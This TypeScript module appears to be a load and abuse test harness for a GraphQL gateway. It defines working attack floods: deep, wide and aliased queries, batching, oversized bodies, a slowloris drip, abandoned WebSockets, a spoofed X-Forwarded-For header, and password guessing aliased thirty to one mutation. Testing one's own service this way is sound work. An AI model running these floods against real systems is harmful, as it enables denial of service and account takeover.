import { connect } from "node:net";
import { Agent, request } from "undici";
import WebSocket from "ws";

/** Where it goes and who sends it. */
export interface Target {
  /** Of the gateway's GraphQL. */
  readonly url: string;
  /** An access token of a household of the attacker's own, on the device with this id. */
  readonly token: string;
  readonly deviceId: string;
  readonly email: string;
}

/** One blow of a flood; resolves with what came of it. */
export type Blow = (target: Target, number: number) => Promise<string>;

const agent = new Agent({ connections: 64, pipelining: 1, headersTimeout: 10_000, bodyTimeout: 10_000 });
/** The attacker's one address: the limits of addresses are part of what is measured. */
const ADDRESS = "198.51.100.66";
/** How long an abandoned socket is kept open by its client. */
const ABANDONED_MS = 60_000;
const LARGE = 400;
const VERY_LARGE = 4_000;

async function post(
  target: Target,
  body: string,
  contentType = "application/json",
  token?: string,
): Promise<string> {
  const response = await request(target.url, {
    method: "POST",
    dispatcher: agent,
    headers: {
      "content-type": contentType,
      "x-forwarded-for": ADDRESS,
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
    },
    body,
  });
  const text = await response.body.text();
  return /"code":"(\w+)"/.exec(text)?.[1] ?? `HTTP ${response.statusCode}`;
}

const ask = (target: Target, query: string, token?: string) =>
  post(target, JSON.stringify({ query }), "application/json", token);

const many = (count: number, of: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => of(index)).join(" ");

/** Sends the head of a request and a byte of its body now and then. */
function slowly({ url }: Target): Promise<string> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect(Number(port), hostname);
    const head = `POST /graphql HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n`;
    socket.write(head);
    const dripping = setInterval(() => socket.write(" "), 1_000).unref();
    socket.on("error", () => undefined);
    socket.on("close", () => {
      clearInterval(dripping);
      resolve("closed");
    });
    setTimeout(() => socket.destroy(), ABANDONED_MS).unref();
  });
}

/** Opens a WebSocket and says nothing. */
function abandoned({ url }: Target): Promise<string> {
  return new Promise((resolve) => {
    const socket = new WebSocket(url.replace("http", "ws"), "graphql-transport-ws", {
      headers: { "x-forwarded-for": ADDRESS },
    });
    socket.on("error", () => resolve("refused"));
    socket.on("close", (code) => resolve(`closed with ${code}`));
    setTimeout(() => socket.terminate(), ABANDONED_MS).unref();
  });
}

/** Everything that is sent, by name; each is a flood of blows. */
export const FLOODS: Readonly<Record<string, Blow>> = {
  deep: (target) =>
    ask(
      target,
      `{ channels { edges { node ${"{ now { channel ".repeat(LARGE)} { id } ${"} }".repeat(LARGE)} } } }`,
    ),
  wide: (target) =>
    ask(target, `{ channels(first: 500) { edges { node { ${many(VERY_LARGE, () => "id title")} } } } }`),
  costly: (target) =>
    ask(
      target,
      `{ channels(first: 500) { edges { node { schedule(from: "2026-01-01T00:00:00Z", to: "2026-12-31T00:00:00Z") { title
      channel { schedule(from: "2026-01-01T00:00:00Z", to: "2026-12-31T00:00:00Z") { title } } } } } } }`,
    ),
  aliased: (target) =>
    ask(target, `{ ${many(LARGE, (index) => `a${index}: channels(first: 100) { totalCount }`)} }`),
  "different each time": (target, number) =>
    ask(
      target,
      `query Q${number} { channels(first: 10) { edges { node { a${number}: title now { b${number}: title } } } } }`,
    ),
  batched: (target) =>
    post(target, JSON.stringify(Array.from({ length: LARGE }, () => ({ query: "{ __typename }" })))),
  slow: slowly,
  broken: (target, number) =>
    post(
      target,
      ["{", '{"query":"{ channels { "}', '{"query":42}', "query=%", '{"query":"{ a b c ! }"}'][number % 5] ??
        "",
    ),
  "large bodies": (target) =>
    post(target, JSON.stringify({ query: `{ __typename } #${"x".repeat(2_000_000)}` })),
  "sockets opened and abandoned": abandoned,
  "sign-in guessing": (target, number) =>
    ask(
      target,
      `mutation { signIn(email: ${JSON.stringify(target.email)}, password: "guess ${number}") { __typename } }`,
    ),
  "thirty guesses in one": (target, number) =>
    ask(
      target,
      `mutation { ${many(30, (index) => `a${index}: signIn(email: ${JSON.stringify(target.email)}, password: "guess ${number}.${index}") { __typename }`)} }`,
    ),
  "remote commands": (target) =>
    ask(
      target,
      `mutation { sendRemoteCommand(input: { targetDeviceId: "${target.deviceId}", kind: PAUSE }) { __typename } }`,
      target.token,
    ),
};
